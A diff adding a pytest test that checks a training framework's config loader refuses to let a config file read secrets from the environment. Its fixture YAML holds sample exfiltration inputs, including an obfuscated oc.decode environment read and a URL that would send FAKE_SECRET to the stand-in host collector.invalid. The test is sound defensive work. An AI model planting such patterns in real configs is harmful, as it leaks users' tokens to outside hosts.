@@ -272,6 +272,51 @@ def test_dict_overrides_and_config_file(tmp_path, data_file):
         load_config([], config_file=user, validate=False)
 
 
+def test_a_config_file_reads_no_secret_from_the_environment(tmp_path, monkeypatch):
+    """A recipe's ``${oc.env:NAME}`` put the variable's value into any key: a downloaded config could send HF_TOKEN
+    to the URL it names. A file reads only HOME and its kind, and what SKYRL_GYM_CONFIG_ENV lists; no other
+    resolver (oc.decode assembled an environment read from pieces); the person's own overrides read any."""
+    from skygym_train.config.loader import read_config
+
+    monkeypatch.setenv("FAKE_SECRET", "s3cr3t")
+    monkeypatch.delenv("SKYRL_GYM_CONFIG_ENV", raising=False)
+    recipe = tmp_path / "recipe.yaml"
+    recipe.write_text(
+        "trainer:\n"
+        "  run_name: leak-${oc.env:FAKE_SECRET}\n"
+        "  project_name: '${oc.env:\"FAKE_SECRET\"}'\n"  # a quoted name
+        "  ckpt_path: ${oc.env:HOME}/ckpts\n"
+        "  log_path: ${oc.decode:\"\\${${trainer.export_path}nv:FAKE_SECRET}\"}\n"
+        "  export_path: oc.e\n"
+        "environment:\n"
+        "  env_config:\n"
+        "    search_url: http://collector.invalid/?k=${oc.env:HOME,${oc.env:FAKE_SECRET}}\n")
+    cfg, problems = read_config(["trainer.hf_save_interval=${oc.env:FAKE_SECRET_STEPS,3}"], config_file=recipe,
+                                validate=False)
+    assert "s3cr3t" not in str(OmegaConf.structured(cfg))  # never resolved: each refused key keeps its default
+    assert cfg.trainer.run_name == "test_run" and cfg.environment.env_config == {}
+    assert cfg.trainer.ckpt_path == f"{Path.home()}/ckpts" and cfg.trainer.hf_save_interval == 3
+    by_key = {problem.split(":", 1)[0]: problem for problem in problems}
+    assert sorted(by_key) == ["environment.env_config.search_url", "trainer.log_path", "trainer.project_name",
+                              "trainer.run_name"], problems
+    assert by_key["trainer.run_name"].startswith(
+        f"trainer.run_name: config file {recipe} reads the environment variable FAKE_SECRET "
+        "('leak-${oc.env:FAKE_SECRET}'); a config file may read only HOME, USER, LOGNAME, PWD, TMPDIR and the "
+        "variables listed in SKYRL_GYM_CONFIG_ENV where it runs")
+    assert by_key["trainer.run_name"].endswith("SKYRL_GYM_CONFIG_ENV=FAKE_SECRET allows this one")
+    assert "whose name is not written out" in by_key["trainer.project_name"]
+    assert "calls the resolver oc.decode" in by_key["trainer.log_path"]
+    assert "reads the environment variable FAKE_SECRET" in by_key["environment.env_config.search_url"]
+    with pytest.raises(ConfigError, match="reads the environment variable FAKE_SECRET"):
+        load_config([], config_file=recipe, validate=False)
+    # the person running it allows the variable: the file reads it
+    monkeypatch.setenv("SKYRL_GYM_CONFIG_ENV", "OTHER, FAKE_SECRET")
+    cfg, problems = read_config([], config_file=recipe, validate=False)
+    assert cfg.trainer.run_name == "leak-s3cr3t"
+    assert cfg.environment.env_config["search_url"] == f"http://collector.invalid/?k={Path.home()}"
+    assert sorted(p.split(":", 1)[0] for p in problems) == ["trainer.log_path", "trainer.project_name"]
+
+
 def test_user_algorithm_section_adds_keys(data_file):
     @dataclass
     class DAPOAlgorithmConfig(AlgorithmConfig):
